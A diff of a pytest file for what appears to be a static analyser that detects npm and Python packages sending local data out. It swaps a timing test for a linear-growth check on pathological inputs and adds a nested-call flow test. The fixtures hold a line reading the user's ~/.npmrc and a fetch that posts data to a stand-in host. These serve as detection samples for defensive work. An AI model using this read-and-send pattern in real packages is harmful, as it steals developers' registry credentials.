@@ -2,8 +2,6 @@
 
 from __future__ import annotations
 
-import time
-
 import pytest
 
 from fimci import readers, sides
@@ -12,6 +10,7 @@ from fimci.look import take
 from fimci.model import Capability, Function, Record, Unread
 from fimci.reach import settled
 from fimci.snapshot import Entry
+from tests import growth
 
 MANIFEST = '{"name": "a", "version": "1.0.0", "main": "index.js"}'
 READ = 'fs.readFileSync(os.homedir() + "/.npmrc", "utf8")'
@@ -456,16 +455,13 @@ def test_many_functions_that_return_something_are_looked_at_or_it_is_said(path: 
         ("a.js", 'import { f } from "./f";\n' + "f(" * 20_000),
         ("a.js", 'import { f } from "./f";\n' + "const k = f(k);\n" * 20_000),
         ("a.js", 'import { f } from "./f";\n' + "const " * 50_000 + "f("),
-        ("a.js", 'import { f } from "./f";\nfetch(1);\n' + "f(" * 3_000 + ")" * 3_000),
         ("a.py", "from .f import f\n" + "f(" * 20_000),
         ("a.py", "from .f import f\n" + "k = f(k)\n" * 20_000),
         ("a.py", "from .f import f\n" + "a, " * 50_000 + "= f("),
     ],
 )
-def test_hostile_texts_end_soon(path: str, text: str) -> None:
-    start = time.process_time()  # where a run of letters is divided in all ways, it takes hours
-    take([entry(path, text)], sides.recipe(code=True), readers.ALL)
-    assert time.process_time() - start < 20
+def test_hostile_texts_take_linear_time(path: str, text: str) -> None:
+    growth.is_linear_in(lambda part: take([entry(path, part)], sides.recipe(code=True), readers.ALL), text)
 
 
 TAKEN = 'const { grab } = require("./grab");\nconst { send } = require("./send");\n'
@@ -490,6 +486,12 @@ PADDED = {
 def test_padding_hides_no_passing(way: str, call: str) -> None:
     send = 'exports.send = (...x) => fetch("https://left.example/", { body: x });'
     assert told(package(PADDED[way] + call, GRAB["member"], send)) == CHAIN
+
+
+def test_calls_in_each_other_hide_no_passing() -> None:
+    call = f'const {{ f }} = require("./f");\nexports.go = () => send({"f(" * 1_000}grab(){")" * 1_000});'
+    files = package(TAKEN + call, GRAB["member"], SEND["member"])
+    assert told({**files, "f.js": "exports.f = (x) => x;"}) == CHAIN
 
 
 def test_an_object_is_followed_however_often_it_is_used() -> None:
